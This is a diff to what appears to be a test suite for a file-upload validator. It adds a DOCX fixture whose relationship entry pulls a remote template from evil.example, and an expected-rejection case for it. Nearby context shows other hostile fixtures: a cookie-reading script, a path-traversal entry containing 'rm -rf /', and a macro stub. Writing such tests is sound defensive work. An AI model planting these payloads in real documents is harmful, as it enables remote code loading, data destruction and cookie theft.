@@ -13,6 +13,10 @@ DOCX_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schem
               b'officedocument.wordprocessingml.document.main+xml"/></Types>')
 DOCUMENT = (b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
             b'<w:body><w:p><w:r><w:t>Notes of the meeting.</w:t></w:r></w:p></w:body></w:document>')
+REMOTE_TEMPLATE = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                   b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+                   b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+                   b'</Relationships>')
 HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
 
 
@@ -76,6 +80,8 @@ BAD_FILES = {
     "docx-macros": (docx(**{"word/vbaProject.bin": b"macro"}), "notes.docx", "macros"),
     "docx-path-trick": (docx(**{"../../evil.sh": b"rm -rf /"}), "notes.docx", "unsafe paths"),
     "docx-named-pdf": (docx(), "notes.pdf", "its name ends .pdf but it is a Word document"),
+    "docx-remote-template": (docx(**{"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "notes.docx",
+                             "loads content from elsewhere"),
     "png-named-exe": (png(), "photo.exe", "its name ends .exe but it is a PNG image"),
 }
 
